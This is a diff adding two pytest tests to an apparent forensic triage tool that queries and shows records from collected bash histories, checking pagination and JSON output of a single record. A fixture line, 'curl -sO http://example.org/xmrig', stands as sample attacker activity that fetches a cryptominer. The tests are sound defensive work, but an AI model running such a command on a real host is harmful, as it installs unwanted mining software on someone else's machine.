@@ -143,6 +143,31 @@ def test_show_is_safe_and_masked_unless_told_otherwise(tmp_path: Path, capfd) ->
     assert run(["verify", str(root)]) == 0
 
 
+def test_query_comes_in_pages(case: Path, capfd) -> None:
+    ask = ["query", str(case), "select record from process order by source_id, record, part", "--json"]
+    assert run(ask) == 0
+    whole = json.loads(capfd.readouterr().out)
+    pages = []
+    for offset in range(0, len(whole) + 1, 5):
+        assert run([*ask, "--limit", "5", "--offset", str(offset)]) == 0
+        done = capfd.readouterr()
+        pages += json.loads(done.out)
+        assert ("--offset" in done.err) == (offset + 5 < len(whole))
+    assert pages == whole
+    assert run([*ask, "--csv"]) == 2
+
+
+def test_show_tells_place_bytes_and_row_as_json(case: Path, capfd) -> None:
+    ref = ref_of(case, "hosts/gpu1/home/bob/.bash_history", 2)
+    assert run(["show", str(case), ref, "--json"]) == 0
+    told = json.loads(capfd.readouterr().out)
+    assert (told["ref"], told["table"], told["record"], told["line"]) == (ref, "process", 2, 3)
+    assert told["text"] == "#1772500100\ncurl -sO http://example.org/xmrig"
+    assert told["row"]["command"] == "curl -sO http://example.org/xmrig"
+    assert sum(length for _, length in told["spans"]) == len(told["text"])
+    assert run(["show", str(case), ref, "--json", "--reveal"]) == 2
+
+
 def test_query_answers_masks_and_only_reads(case: Path, capfd) -> None:
     assert run(["query", str(case), "select command, ts from process order by ts, source_id limit 1", "--json"]) == 0
     assert json.loads(capfd.readouterr().out) == [{"command": "ls -la", "ts": "2026-03-03 01:06:40+00:00"}]
